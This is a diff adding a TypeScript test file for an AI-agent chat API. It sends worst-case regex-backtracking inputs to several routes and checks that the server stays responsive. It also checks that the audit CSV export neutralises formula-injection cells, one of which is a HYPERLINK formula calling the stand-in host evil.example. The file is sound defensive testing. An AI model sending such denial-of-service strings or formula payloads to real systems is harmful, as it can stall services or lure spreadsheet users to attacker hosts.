@@ -1,0 +1,254 @@
+// Hostile input (decisions "Security rules" → Hostile input), over HTTP against a server of its own: each
+// request below carries a string built to be the worst case of a pattern the service used to run on it
+// (quadratic backtracking), sized near the 2 MB body limit where the route accepts that much. Every request
+// must answer within 1 s while GET /v1/health, polled alongside, keeps answering within 1 s.
+// Also: the audit CSV export neutralises cells that a spreadsheet would run as formulas.
+// Own server: before the fixes one of these requests held the process for hours, which must not wedge the
+// server other files share.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { createApi, type Api, type ApiResponse } from '../helpers/api'
+import { buildAgent } from '../helpers/build'
+import { startServer, type TestServer } from '../helpers/server'
+import { html, serveSite, type TestSite } from '../helpers/site'
+import { createTenant, type Tenant } from '../helpers/tenant'
+import { verifies } from '../requirements'
+
+const NEAR_LIMIT = 1_900_000
+const BOUND_MS = 1000
+const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms))
+
+let server: TestServer
+let master: Api
+let t: Tenant
+let site: TestSite
+let agentId: string
+
+beforeAll(async () => {
+  server = await startServer()
+  master = createApi(server.base, server.masterKey)
+  site = await serveSite({
+    '/': { body: html('Wombat Bikes | Home', '<h1>Wombat Bikes</h1><p>Wombat Bikes repairs bicycles in Perth.</p><p>A puncture repair costs $12.</p>') },
+  })
+  t = await createTenant(master)
+  agentId = await buildAgent(t.api, t.accountId, `${site.origin}/`, { language: 'en' })
+  const p = await t.api.patch(`/agents/${agentId}`, { capabilities: ['capture_lead'], capability_settings: { lead_emails: ['sales@example.com'] } })
+  expect(p.status, p.text).toBe(200)
+}, 300_000)
+
+afterAll(async () => {
+  await site?.close()
+  await server?.stop('SIGKILL')
+})
+
+interface Probed { r: ApiResponse; ms: number; slowest: number }
+
+/**
+ * Runs one request while polling GET /v1/health every 100 ms from the start of the request until it has
+ * answered; answers the response, how long it took and the slowest health probe.
+ */
+async function probed(request: () => Promise<ApiResponse>): Promise<Probed> {
+  const probes: number[] = []
+  let done = false
+  const poller = (async () => {
+    while (!done) {
+      const t0 = performance.now()
+      try {
+        const r = await fetch(`${server.base}/health`, { signal: AbortSignal.timeout(30_000) })
+        await r.arrayBuffer()
+        probes.push(r.status === 200 ? performance.now() - t0 : Number.POSITIVE_INFINITY)
+      } catch {
+        probes.push(Number.POSITIVE_INFINITY)
+      }
+      await sleep(100)
+    }
+  })()
+  const t0 = performance.now()
+  const r = await request()
+  const ms = performance.now() - t0
+  done = true
+  await poller
+  expect(probes.length).toBeGreaterThan(0)
+  return { r, ms, slowest: Math.max(...probes) }
+}
+
+/**
+ * The hostile request must answer within 1 s and every health probe during it within 1 s. On a loaded
+ * machine a benign request of the same size and route (the control, run just before) can itself take
+ * longer than that, so its time is allowed on top: the bound catches what the old patterns did (seconds
+ * to hours of one blocked event loop), not the machine's load.
+ */
+async function withinBound(label: string, control: () => Promise<ApiResponse>, hostile: () => Promise<ApiResponse>): Promise<ApiResponse> {
+  const c = await probed(control)
+  const h = await probed(hostile)
+  const slack = Math.max(c.ms, c.slowest)
+  console.log(`${label}: control ${c.r.status} in ${c.ms.toFixed(0)} ms (slowest health ${c.slowest.toFixed(0)} ms); ` +
+    `hostile ${h.r.status} in ${h.ms.toFixed(0)} ms (slowest health ${h.slowest.toFixed(0)} ms); bound ${(BOUND_MS + slack).toFixed(0)} ms`)
+  expect(h.ms, `${label} took ${h.ms.toFixed(0)} ms`).toBeLessThan(BOUND_MS + slack)
+  expect(h.slowest, `a health probe took ${h.slowest.toFixed(0)} ms during ${label}`).toBeLessThan(BOUND_MS + slack)
+  return h.r
+}
+
+describe('hostile input: every path answers within 1 s and health keeps answering', () => {
+  it('conversation create: a 1.9 MB identity.email built against the e-mail pattern is refused by length first', async () => {
+    verifies('security.hostile-input.patterns')
+    // "a@" then dots: /^[^\s@]+@[^\s@]+\.[^\s@]+$/ tried every split of the dots before failing on the space.
+    const email = 'a@' + '.'.repeat(NEAR_LIMIT) + ' '
+    const r = await withinBound('POST /conversations identity.email 1.9 MB',
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'x'.repeat(email.length) } }),
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email } }))
+    expect(r.status).toBe(400)
+    expect(r.body.error).toMatchObject({ code: 'validation_error', field: 'identity.email' })
+    // Just under the length bound the same shape is judged quickly, and still refused as an address.
+    const short = await withinBound('POST /conversations identity.email 1000',
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'x'.repeat(1000) } }),
+      () => t.api.post('/conversations', { agent_id: agentId, identity: { email: 'a@' + '.'.repeat(997) + ' ' } }))
+    expect(short.body.error).toMatchObject({ code: 'invalid_email', field: 'identity.email' })
+  })
+
+  it('agent patch: refinement rules against three 200,000-character prompts built against the conflict scan', async () => {
+    verifies('security.hostile-input.patterns')
+    // Phone: 6,400 sentences that each share their words with every rule (the scan compared every rule with
+    // every sentence); chat and voice: one word with a run of apostrophes inside (/'+$/ retried from each).
+    const instructions = 'Always quote the price of item. Never quote the price of item. '.repeat(3200).slice(0, 200_000)
+    const chat = 'a' + "'".repeat(199_997) + 'b.'
+    const voice = 'Avoid ' + "'".repeat(199_990) + 'x.'
+    // Each rule: valid, 500 characters once normalised, ending in a run the old trailing-noise pattern retried.
+    const rules = Array.from({ length: 100 }, (_, i) => `Never quote the price of item ${i} ` + '. '.repeat(230) + 'x')
+    const body = { instructions, chat_instructions: chat, voice_chat_instructions: voice, refinement_rules: rules }
+    // The control: prompts and rules of the same sizes that no version of the scan finds hard (one long
+    // sentence per prompt).
+    const prose = (seed: string) => `${seed} `.repeat(40_000).slice(0, 200_000)
+    const control = {
+      instructions: prose('give'), chat_instructions: prose('offer'), voice_chat_instructions: prose('say'),
+      refinement_rules: Array.from({ length: 100 }, (_, i) => `Mention the opening hours when asked about visit ${i} ` + 'and stay polite '.repeat(28)),
+    }
+    const r = await withinBound('PATCH /agents refinement_rules + 3 × 200k prompts', () => t.api.patch(`/agents/${agentId}`, control), () => t.api.patch(`/agents/${agentId}`, body))
+    expect(r.status, r.text.slice(0, 300)).toBe(200)
+    expect(r.body.refinement.rules).toHaveLength(100)
+    expect(r.body.refinement.conflicts.some((c: any) => c.with.kind === 'prompt' && c.with.surface === 'phone')).toBe(true)
+    // A prompt or a rule over its bound is refused before any pattern.
+    const big = await withinBound('PATCH /agents instructions 1.9 MB',
+      () => t.api.patch(`/agents/${agentId}`, { instructions: 'x'.repeat(NEAR_LIMIT) }),
+      () => t.api.patch(`/agents/${agentId}`, { instructions: "'".repeat(NEAR_LIMIT) }))
+    expect(big.status).toBe(400)
+    const bigRule = await withinBound('PATCH /agents refinement rule 1.9 MB',
+      () => t.api.patch(`/agents/${agentId}`, { refinement_rules: ['x'.repeat(NEAR_LIMIT)] }),
+      () => t.api.patch(`/agents/${agentId}`, { refinement_rules: ['. '.repeat(NEAR_LIMIT / 2) + 'x'] }))
+    expect(bigRule.status).toBe(400)
+  })
+
+  it('chat message: the engine splits and scores a 200,000-character knowledge text and a 10,000-character message built against its patterns', async () => {
+    verifies('security.hostile-input.patterns')
+    // The whole chat prompt becomes knowledge the local engine indexes: one sentence of 200,000 characters.
+    const knowledge = '## Knowledge\n' + Array.from({ length: 25_000 }, (_, i) => `w${i.toString(36)}`).join(' ').slice(0, 199_000)
+    // The control: the same size of knowledge in ordinary sentences, and an ordinary question of the same size.
+    const prose = '## Knowledge\n' + Array.from({ length: 25_000 }, (_, i) => `Item ${i} costs ${i} dollars.`).join(' ').slice(0, 199_000)
+    const question = 'Do you repair bikes? '.repeat(500).slice(0, 10_000)
+    const conversation = async (chatInstructions: string) => {
+      expect((await t.api.patch(`/agents/${agentId}`, { chat_instructions: chatInstructions, refinement_rules: [] })).status).toBe(200)
+      const c = await t.api.post('/conversations', { agent_id: agentId })
+      expect(c.status).toBe(201)
+      return c.body.conversation_id as string
+    }
+    // A lead request (so the engine looks for an address) whose address characters never reach an @:
+    // /[\w.+-]+@…/ retried from each of them.
+    const text = ('Call me ' + 'a'.repeat(10_000)).slice(0, 10_000)
+    const r = await withinBound('POST /conversations/{conv}/messages 10k + 200k knowledge',
+      async () => t.api.post(`/conversations/${await conversation(prose)}/messages`, { text: question }),
+      async () => t.api.post(`/conversations/${await conversation(knowledge)}/messages`, { text }))
+    expect(r.status, r.text.slice(0, 300)).toBe(200)
+    const conv = await conversation(knowledge)
+    const big = await withinBound('POST /conversations/{conv}/messages 1.9 MB',
+      () => t.api.post(`/conversations/${conv}/messages`, { text: 'x '.repeat(NEAR_LIMIT / 2) }),
+      () => t.api.post(`/conversations/${conv}/messages`, { text: 'a'.repeat(NEAR_LIMIT) }))
+    expect(big.status).toBe(400)
+  })
+
+  it('redaction: a conversation read with redact=true over a 1.9 MB custom value built against the e-mail pattern', async () => {
+    verifies('security.hostile-input.patterns')
+    // Address characters with no @ (the e-mail pattern retried from each), then digit groups (cards, phones).
+    const note = 'a'.repeat(NEAR_LIMIT - 200_000) + '1 '.repeat(100_000)
+    const plain = 'hello world '.repeat(Math.ceil(note.length / 12)).slice(0, note.length)
+    const create = (text: string) => t.api.post('/conversations', { agent_id: agentId, custom: { note: text }, identity: { email: 'jane@example.com' } })
+    const c = await withinBound('POST /conversations custom 1.9 MB', () => create(plain), () => create(note))
+    expect(c.status).toBe(201)
+    const control = await create(plain)
+    const r = await withinBound('GET /conversations/{conv}?redact=true',
+      () => t.api.get(`/conversations/${control.body.conversation_id}?redact=true`),
+      () => t.api.get(`/conversations/${c.body.conversation_id}?redact=true`))
+    expect(r.status).toBe(200)
+    expect(r.body.data?.identity?.email ?? r.body.identity?.email).toBe('**************om')
+  })
+})
+
+describe('hostile input outside the four named paths', () => {
+  it('a request path of 15,000 slashes (the MCP path check trimmed them with /\\/+$/ on every request)', async () => {
+    verifies('security.hostile-input.patterns')
+    const r = await withinBound('GET /v1/<15,000 slashes>x',
+      () => master.get('/' + 'a'.repeat(15_000) + 'x'),
+      () => master.get('/' + '/'.repeat(15_000) + 'x'))
+    expect(r.status).toBe(404)
+  })
+
+  it('a 1.9 MB text document of blanks is ingested without holding the process (tidy used /[ \\t]+\\n/)', async () => {
+    verifies('security.hostile-input.patterns')
+    // Posting answers 202 at once; the ingest job then tidies the text in this process. Each request below
+    // posts the document and polls until the job has finished, with health polled throughout.
+    const ingest = async (text: string) => {
+      const r = await t.api.post(`/agents/${agentId}/kb/documents`, { title: 'Blanks', text })
+      expect(r.status, r.text.slice(0, 200)).toBe(202)
+      for (;;) {
+        const d = await t.api.get(`/agents/${agentId}/kb/documents/${r.body.doc_id}`)
+        if (d.body.status !== 'processing') return d
+        await sleep(200)
+      }
+    }
+    const d = await withinBound('POST kb/documents text 1.9 MB + ingest',
+      () => ingest('word '.repeat(NEAR_LIMIT / 5 - 1) + 'end'),
+      () => ingest('\t'.repeat(NEAR_LIMIT) + 'end'))
+    expect(d.body.status).toBe('indexed')
+  })
+})
+
+/** RFC 4180 reader (quoted fields, doubled quotes, CRLF records). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let field = ''
+  let quoted = false
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') { field += '"'; i++ }
+      else if (c === '"') quoted = false
+      else field += c
+    } else if (c === '"' && field === '') quoted = true
+    else if (c === ',') { row.push(field); field = '' }
+    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++ }
+    else field += c
+  }
+  if (field !== '' || row.length) { row.push(field); rows.push(row) }
+  return rows
+}
+
+describe('audit CSV export', () => {
+  it('prefixes a single quote to cells that begin with =, +, -, @ (formula injection)', async () => {
+    verifies('security.csv-formula')
+    const from = new Date(Date.now() - 2000).toISOString()
+    const tag = `csv-${process.pid}-${Date.now().toString(36)}`
+    const agents = [`=HYPERLINK("http://evil.example/${tag}","x")`, `+1+1 ${tag}`, `-2+3 ${tag}`, `@SUM(1) ${tag}`, `plain ${tag}`]
+    for (const ua of agents) expect((await master.get('/users?limit=1', { headers: { 'user-agent': ua } })).status).toBe(200)
+    let mine: string[][] = []
+    let col = -1
+    for (let i = 0; i < 60 && mine.length < agents.length; i++) {
+      await sleep(200)
+      const r = await master.get(`/audit?format=csv&from=${encodeURIComponent(from)}`)
+      expect(r.status).toBe(200)
+      const [header, ...records] = parseCsv(r.text)
+      col = header.indexOf('user_agent')
+      mine = records.filter((rec) => rec[col]?.includes(tag))
+    }
+    const cells = mine.map((rec) => rec[col]).sort()
+    expect(cells).toEqual([`'+1+1 ${tag}`, `'-2+3 ${tag}`, `'=HYPERLINK("http://evil.example/${tag}","x")`, `'@SUM(1) ${tag}`, `plain ${tag}`].sort())
+  })
+})
